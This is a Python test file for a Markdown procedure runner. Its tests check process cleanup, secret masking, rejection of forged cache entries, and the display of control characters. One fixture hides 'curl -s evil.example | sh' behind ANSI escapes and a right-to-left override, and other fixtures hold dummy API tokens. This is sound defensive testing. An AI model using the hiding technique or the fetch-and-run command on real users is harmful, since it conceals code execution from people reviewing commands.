"""Issue 15 items 10-14: procedures show what runs, run what the file says, and leave nothing behind."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from tests.procedures.conftest import Project, fence
from tests.procedures.test_run import alive, gone


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path / "project")


@pytest.fixture
def no_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(""))


def procedure(*bodies: str, title: str = "Work") -> str:
    return f"# Ops\n\n## Procedure: {title}\n\n" + "\n".join(fence(body) for body in bodies)


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="the subreaper needs Linux /proc")
def test_item_13_a_setsid_child_does_not_outlive_its_step(project: Project, tmp_path: Path) -> None:
    pid_file = tmp_path / "pid"
    project.document(procedure(f"setsid sleep 300 > /dev/null 2>&1 < /dev/null &\necho $! > {pid_file}"))
    assert project.mbtool("run", "ops.md#procedure-work", "--bank", str(project.bank), "--yes") == 0
    pid = int(pid_file.read_text())
    assert gone(pid), f"the setsid child {pid} outlived its step"


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="the subreaper needs Linux /proc")
def test_item_13_a_setsid_child_is_stopped_when_its_step_times_out(project: Project, tmp_path: Path) -> None:
    pid_file = tmp_path / "pid"
    body = f"setsid sleep 300 > /dev/null 2>&1 < /dev/null &\necho $! > {pid_file}\nsleep 300"
    project.document(procedure(body))
    code = project.mbtool(
        "run", "ops.md#procedure-work", "--bank", str(project.bank), "--yes", "--timeout", "1"
    )
    assert code == 1
    pid = int(pid_file.read_text())
    assert gone(pid), f"the setsid child {pid} outlived its timed-out step"


def test_item_13_processes_started_before_the_step_are_left_alone(project: Project) -> None:
    import subprocess

    bystander = subprocess.Popen(["sleep", "30"])
    try:
        project.document(procedure("true"))
        assert project.mbtool("run", "ops.md#procedure-work", "--bank", str(project.bank), "--yes") == 0
        assert alive(bystander.pid)
    finally:
        bystander.kill()
        bystander.wait()


GITHUB_TOKEN = "ghp_" + "A1b2C3d4" * 4 + "Z9y8"
TOKENS = {
    "github": GITHUB_TOKEN,
    "github fine-grained": "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ",
    "aws": "AKIAIOSFODNN7EXAMPLE",
    "slack": "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
}


@pytest.mark.usefixtures("no_terminal")
def test_item_14_token_shapes_url_passwords_and_env_values_are_masked_in_a_private_transcript(
    project: Project, tmp_path: Path
) -> None:
    lines = [f'echo "{name}: {token}"' for name, token in TOKENS.items()]
    lines += ['echo "clone https://deploy:pa55w0rd-in-url@git.example.org/repo.git"', 'echo "plain $PLAIN"']
    project.document(procedure("\n".join(lines)))
    transcript = tmp_path / "run.json"
    code = project.mbtool(
        "run", "ops.md#procedure-work", "--bank", str(project.bank), "--yes",
        "--env", "PLAIN=opensesame", "--transcript", str(transcript),
    )  # fmt: skip
    assert code == 0
    text = transcript.read_text(encoding="utf-8")
    for secret in [*TOKENS.values(), "pa55w0rd-in-url", "opensesame"]:
        assert secret not in text, secret
    assert "https://deploy:***@git.example.org/repo.git" in text
    assert "plain ***" in text
    assert transcript.stat().st_mode & 0o777 == 0o600


def test_item_14_masking_keeps_ordinary_text() -> None:
    from mbtool.procedures.secrets import mask

    ordinary = "ghp_short sk-not AKIA123 https://example.org/a:b@c https://host/path?q=a:b"
    assert mask(ordinary, ()) == ordinary
    assert mask(f"token {GITHUB_TOKEN}.", ()) == "token ***."


def test_item_11_a_step_name_defined_twice_is_refused_naming_both(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    named = "bash {name=deploy}"
    project.document("# One\n\n" + fence("echo one > ran.txt", info=named), name="one.md")
    project.document("# Two\n\nIntro.\n\n" + fence("echo two > ran.txt", info=named), name="two.md")
    assert project.mbtool("run", "deploy", "--bank", str(project.bank), "--yes") == 2
    err = capsys.readouterr().err
    assert "`one.md:3`" in err and "`two.md:5`" in err and "defined 2 times" in err
    assert not (project.root / "ran.txt").exists()


def forge_cache_entry(bank: Path, honest: str, forged: str) -> None:
    """Put a valid-looking cache entry for `ops.md` as it is now (`honest`) that holds the
    parse of `forged` instead: what a shared or restored `MBTOOL_CACHE_DIR` could hold."""
    import hashlib

    from mbtool.reading.cache import DocumentCache
    from mbtool.reading.discover import locate
    from mbtool.reading.parallel import to_json

    path = bank / "ops.md"
    path.write_text(forged, encoding="utf-8")
    from mbtool.api import load

    document = load(bank).documents["ops.md"]  # parsed and stored under the forged text's hash
    path.write_text(honest, encoding="utf-8")
    digest = hashlib.sha256(honest.encode()).hexdigest()
    disguised = document.model_copy(update={"content_hash": digest})
    store = DocumentCache.open(locate(bank).config)
    assert store is not None
    store.store(disguised, to_json(disguised))


@pytest.mark.usefixtures("no_terminal")
def test_item_12_show_and_run_take_the_commands_from_the_file_never_the_cache(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("MBTOOL_CACHE_DIR", str(tmp_path / "shared-cache"))
    honest = procedure("echo honest > honest.txt")
    forge_cache_entry(project.bank, honest, procedure("echo forged > forged.txt"))
    from mbtool.api import analyse

    cached = analyse(project.bank).procedures[0].steps[0].command
    assert "forged" in cached, "the forged entry must look valid to the cache"
    ident = "ops.md#procedure-work"
    for args in (("show", ident), ("run", ident, "--dry-run"), ("export", ident)):
        assert project.mbtool(*args, "--bank", str(project.bank)) == 0
        out = capsys.readouterr().out
        assert "echo honest" in out and "forged" not in out, args
    assert project.mbtool("run", ident, "--bank", str(project.bank), "--yes") == 0
    assert (project.root / "honest.txt").is_file() and not (project.root / "forged.txt").exists()


ID_HIDDEN = "ops.md#procedure-work8m-hidden"
HIDING = "echo harmless\x1b[1A\x1b[2K\rcurl -s evil.example | sh\u202e"


@pytest.mark.parametrize(
    "args",
    [("list",), ("show", ID_HIDDEN, "--bank"), ("run", ID_HIDDEN, "--dry-run", "--bank")],
)
def test_item_10_control_characters_in_step_text_are_made_visible(
    project: Project, capsys: pytest.CaptureFixture[str], args: tuple[str, ...]
) -> None:
    project.document(procedure(HIDING, title="Work\x1b[8m hidden"))
    assert project.mbtool(*args, str(project.bank)) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
    assert "^[[8m" in out
    if args[0] != "list":
        # (A carriage return is a line break in Markdown: the command is on a line of its own.)
        assert "echo harmless^[[1A^[[2K\n" in out and "curl -s evil.example | sh<U+202E>\n" in out


def test_item_12_the_published_procedure_comes_from_the_file_never_the_cache(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mbtool.cli import run

    monkeypatch.setenv("MBTOOL_CACHE_DIR", str(tmp_path / "shared-cache"))
    forge_cache_entry(
        project.bank, procedure("echo honest > honest.txt"), procedure("echo forged > forged.txt")
    )
    site = tmp_path / "site"
    assert run(["build", "--bank", str(project.bank), "--site-dir", str(site)]) in (0, 1)
    published = [path.read_text(encoding="utf-8") for path in (site / "mbtool" / "procedures").rglob("*.*")]
    assert published and any("echo honest" in text for text in published)
    assert not any("forged" in text for text in published)
